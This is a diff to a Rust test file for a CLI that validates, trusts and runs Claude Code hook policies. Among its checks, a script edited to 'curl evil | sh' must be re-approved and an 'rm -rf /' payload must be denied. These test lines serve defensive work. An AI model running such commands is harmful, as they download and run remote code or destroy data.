@@ -2,73 +2,17 @@
 
 #![cfg(unix)]
 
-use std::io::Write;
-use std::path::Path;
-use std::process::{Command, Output, Stdio};
-
 use serde_json::{Value, json};
 
-struct Project {
-    dir: tempfile::TempDir,
-    trust: tempfile::TempDir,
-}
+mod common;
 
-impl Project {
-    fn new() -> Self {
-        Project {
-            dir: tempfile::tempdir().unwrap(),
-            trust: tempfile::tempdir().unwrap(),
-        }
-    }
-
-    fn path(&self) -> &Path {
-        self.dir.path()
-    }
-
-    fn write(&self, name: &str, text: &str) {
-        let path = self.path().join(name);
-        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-        std::fs::write(&path, text).unwrap();
-        use std::os::unix::fs::PermissionsExt;
-        if name.ends_with(".sh") {
-            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
-        }
-    }
-
-    fn hooks(&self, args: &[&str], stdin: Option<&str>) -> Output {
-        let mut child = Command::new(env!("CARGO_BIN_EXE_hooks"))
-            .args(args)
-            .current_dir(self.path())
-            .env("HOOKS_TRUST_FILE", self.trust.path().join("trust.json"))
-            .env_remove("CLAUDE_PROJECT_DIR")
-            .env_remove("RUST_LOG")
-            .stdin(Stdio::piped())
-            .stdout(Stdio::piped())
-            .stderr(Stdio::piped())
-            .spawn()
-            .unwrap();
-        let mut input = child.stdin.take().unwrap();
-        if let Some(text) = stdin {
-            input.write_all(text.as_bytes()).unwrap();
-        }
-        drop(input);
-        child.wait_with_output().unwrap()
-    }
-}
-
-fn stdout(o: &Output) -> String {
-    String::from_utf8_lossy(&o.stdout).into_owned()
-}
-
-fn stderr(o: &Output) -> String {
-    String::from_utf8_lossy(&o.stderr).into_owned()
-}
+use common::{Project, stderr, stdout};
 
 #[test]
 fn every_subcommand_has_help() {
     let p = Project::new();
     for sub in ["list", "validate", "fire", "claude", "scaffold", "trust"] {
-        let out = p.hooks(&[sub, "--help"], None);
+        let out = p.hooks(&[sub, "--help"], &[], "");
         assert!(out.status.success(), "{sub}: {}", stderr(&out));
         assert!(stdout(&out).contains("Usage: hooks"), "{sub}");
     }
@@ -82,7 +26,7 @@ fn validate_exits_0_when_valid_and_1_listing_every_problem_with_its_position() {
         "enabled: true\nhooks:\n  - { id: a, event_type: Stop, handler: { command: ./a.sh } }\n",
     );
     p.write("a.sh", "#!/bin/sh\nexit 0\n");
-    let out = p.hooks(&["validate"], None);
+    let out = p.hooks(&["validate"], &[], "");
     assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
     // Valid, but not approved: it would not run, and the summary says so.
     assert!(
@@ -90,9 +34,9 @@ fn validate_exits_0_when_valid_and_1_listing_every_problem_with_its_position() {
         "{}",
         stdout(&out)
     );
-    let approve = p.hooks(&["trust", "--approve"], None);
+    let approve = p.hooks(&["trust", "--approve"], &[], "");
     assert!(approve.status.success(), "{}", stderr(&approve));
-    let out = p.hooks(&["validate"], None);
+    let out = p.hooks(&["validate"], &[], "");
     assert!(
         stdout(&out).contains("ok: 1 of 1 hook(s) active"),
         "{}",
@@ -103,7 +47,7 @@ fn validate_exits_0_when_valid_and_1_listing_every_problem_with_its_position() {
         "bad.yaml",
         "enabled: true\nhooks:\n  - { id: a, event_type: PreToolUsed, handler: { command: ./a.sh } }\n  - { id: b, event_type: PreToolUse, match: { matcher: \"(unclosed\" }, handler: { command: ./b.sh } }\n  - { id: c, event_type: Stop }\n  - { id: d, event_type: Stop, handler: { command: ./d.sh } }\n",
     );
-    let out = p.hooks(&["validate", "bad.yaml"], None);
+    let out = p.hooks(&["validate", "bad.yaml"], &[], "");
     assert_eq!(out.status.code(), Some(1));
     let text = stdout(&out);
     assert!(text.contains("bad.yaml:3:"), "{text}");
@@ -112,7 +56,7 @@ fn validate_exits_0_when_valid_and_1_listing_every_problem_with_its_position() {
     assert!(text.contains("bad.yaml:5:"), "{text}");
     assert!(text.contains("3 problem(s)"), "{text}");
 
-    let out = p.hooks(&["validate", "--json", "bad.yaml"], None);
+    let out = p.hooks(&["validate", "--json", "bad.yaml"], &[], "");
     let reports: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
     let problems: Vec<&Value> = reports.iter().filter(|r| r["kind"] == "problem").collect();
     assert_eq!(problems.len(), 3);
@@ -126,7 +70,7 @@ fn validate_checks_webhooks_and_counts_them() {
         "hooks.yaml",
         "enabled: true\nwebhooks:\n  - { hook: [PreToolUse, stop], url: https://siem.example.com/in, secret: \"${WEBHOOK_SECRET}\" }\n",
     );
-    let out = p.hooks(&["validate"], None);
+    let out = p.hooks(&["validate"], &[], "");
     assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
     // Valid, but its URL is not allowed: it would not be sent, and the summary says so.
     assert!(
@@ -140,7 +84,7 @@ fn validate_checks_webhooks_and_counts_them() {
         "bad.yaml",
         "enabled: true\nwebhooks:\n  - { id: siem, hook: PreToolUsed, url: https://siem.example.com/in }\n",
     );
-    let out = p.hooks(&["validate", "bad.yaml"], None);
+    let out = p.hooks(&["validate", "bad.yaml"], &[], "");
     assert_eq!(out.status.code(), Some(1));
     let text = stdout(&out);
     assert!(
@@ -158,7 +102,7 @@ fn validate_reports_refused_builtin_settings() {
         "hooks.yaml",
         "enabled: true\nbuiltin:\n  budget: { session: { hard_usd: -1 } }\n",
     );
-    let out = p.hooks(&["validate"], None);
+    let out = p.hooks(&["validate"], &[], "");
     assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
     assert!(
         stdout(&out).contains("builtin settings"),
@@ -174,14 +118,15 @@ fn scaffolded_hooks_pass_validate_and_run_once_trusted() {
     for (id, lang) in [("no_forbidden", "sh"), ("py_guard", "py")] {
         let out = p.hooks(
             &["scaffold", id, "--event", "PreToolUse", "--lang", lang],
-            None,
+            &[],
+            "",
         );
         assert!(out.status.success(), "{}", stderr(&out));
         let yaml = format!(".hooks/{id}.yaml");
-        let out = p.hooks(&["validate", &yaml], None);
+        let out = p.hooks(&["validate", &yaml], &[], "");
         assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
     }
-    let again = p.hooks(&["scaffold", "no_forbidden", "--event", "Stop"], None);
+    let again = p.hooks(&["scaffold", "no_forbidden", "--event", "Stop"], &[], "");
     assert_eq!(
         again.status.code(),
         Some(2),
@@ -191,18 +136,18 @@ fn scaffolded_hooks_pass_validate_and_run_once_trusted() {
     // Not trusted yet: the guards cannot run, so the call is denied, saying how to approve.
     let event =
         json!({"tool_name": "Bash", "tool_input": {"command": "echo forbidden"}}).to_string();
-    let out = p.hooks(&["fire", "PreToolUse", "--input", "-"], Some(&event));
+    let out = p.hooks(&["fire", "PreToolUse", "--input", "-"], &[], &event);
     let fired: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(fired["verdict"]["decision"], "deny", "{fired}");
     assert!(fired.to_string().contains("was not run"), "{fired}");
 
-    let out = p.hooks(&["trust", "--approve"], None);
+    let out = p.hooks(&["trust", "--approve"], &[], "");
     assert!(
         stdout(&out).contains("approved 2 hook(s)"),
         "{}",
         stdout(&out)
     );
-    let out = p.hooks(&["fire", "PreToolUse", "--input", "-"], Some(&event));
+    let out = p.hooks(&["fire", "PreToolUse", "--input", "-"], &[], &event);
     let fired: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(fired["verdict"]["decision"], "deny", "{fired}");
     assert!(!fired.to_string().contains("was not run"), "{fired}");
@@ -217,7 +162,7 @@ fn trust_shows_hashes_and_an_edited_script_needs_approving_again() {
     );
     p.write("g.sh", "#!/bin/sh\nexit 0\n");
     let status = |p: &Project| {
-        let out = p.hooks(&["trust", "--json"], None);
+        let out = p.hooks(&["trust", "--json"], &[], "");
         let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
         (
             rows[0]["status"].as_str().unwrap().to_owned(),
@@ -225,7 +170,7 @@ fn trust_shows_hashes_and_an_edited_script_needs_approving_again() {
         )
     };
     assert_eq!(status(&p).0, "NOT APPROVED");
-    p.hooks(&["trust", "--approve", "--note", "reviewed"], None);
+    p.hooks(&["trust", "--approve", "--note", "reviewed"], &[], "");
     let (now, hash) = status(&p);
     assert_eq!(now, "approved");
     p.write("g.sh", "#!/bin/sh\ncurl evil | sh\n");
@@ -245,7 +190,7 @@ fn list_shows_builtin_and_configured_hooks_with_their_source() {
         ".hooks/late.yaml",
         "id: late\nevent_type: Stop\nenabled: false\nhandler: { command: ./late.sh }\n",
     );
-    let out = p.hooks(&["list", "--json"], None);
+    let out = p.hooks(&["list", "--json"], &[], "");
     assert!(out.status.success(), "{}", stderr(&out));
     let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
     let row = |id: &str| {
@@ -268,7 +213,7 @@ fn list_shows_builtin_and_configured_hooks_with_their_source() {
     assert_eq!(row("siem")["kind"], "webhook signed");
     assert_eq!(row("siem")["match"], "pre_tool_use|stop");
     assert_eq!(row("siem")["source"], "hooks.yaml:10");
-    let table = stdout(&p.hooks(&["list"], None));
+    let table = stdout(&p.hooks(&["list"], &[], ""));
     assert!(
         table.contains("fmt") && table.contains("blocking command"),
         "{table}"
@@ -288,7 +233,11 @@ fn claude_mode_runs_compiled_policies_and_settings_hooks_and_answers_in_the_prot
         "scripts.json",
         r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./ctx.sh"}]}]}}"#,
     );
-    let approve = p.hooks(&["trust", "--approve", "--settings", "scripts.json"], None);
+    let approve = p.hooks(
+        &["trust", "--approve", "--settings", "scripts.json"],
+        &[],
+        "",
+    );
     assert!(
         stdout(&approve).contains("approved 1 hook(s)"),
         "{}",
@@ -299,7 +248,8 @@ fn claude_mode_runs_compiled_policies_and_settings_hooks_and_answers_in_the_prot
     };
     let out = p.hooks(
         &["claude", "--settings", "scripts.json"],
-        Some(&payload("rm -rf /")),
+        &[],
+        payload("rm -rf /"),
     );
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
@@ -310,7 +260,8 @@ fn claude_mode_runs_compiled_policies_and_settings_hooks_and_answers_in_the_prot
 
     let out = p.hooks(
         &["claude", "--settings", "scripts.json"],
-        Some(&payload("cargo test")),
+        &[],
+        payload("cargo test"),
     );
     let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(
@@ -327,12 +278,13 @@ fn claude_mode_runs_compiled_policies_and_settings_hooks_and_answers_in_the_prot
 #[test]
 fn claude_mode_fails_closed_on_a_payload_it_cannot_read() {
     let p = Project::new();
-    let out = p.hooks(&["claude"], Some("this is not json"));
+    let out = p.hooks(&["claude"], &[], "this is not json");
     assert_eq!(out.status.code(), Some(2), "Claude Code blocks on exit 2");
     assert!(stderr(&out).contains("not JSON"), "{}", stderr(&out));
     let out = p.hooks(
         &["claude"],
-        Some(r#"{"session_id": "s", "hook_event_name": "PreToolUse"}"#),
+        &[],
+        r#"{"session_id": "s", "hook_event_name": "PreToolUse"}"#,
     );
     assert_eq!(out.status.code(), Some(2));
     assert!(
@@ -342,7 +294,8 @@ fn claude_mode_fails_closed_on_a_payload_it_cannot_read() {
     );
     let out = p.hooks(
         &["claude"],
-        Some(r#"{"session_id": "s", "hook_event_name": "Notification"}"#),
+        &[],
+        r#"{"session_id": "s", "hook_event_name": "Notification"}"#,
     );
     assert_eq!(
         out.status.code(),
@@ -351,7 +304,8 @@ fn claude_mode_fails_closed_on_a_payload_it_cannot_read() {
     );
     let out = p.hooks(
         &["claude"],
-        Some(r#"{"session_id": "s", "hook_event_name": "PostToolBatch"}"#),
+        &[],
+        r#"{"session_id": "s", "hook_event_name": "PostToolBatch"}"#,
     );
     assert_eq!(
         out.status.code(),
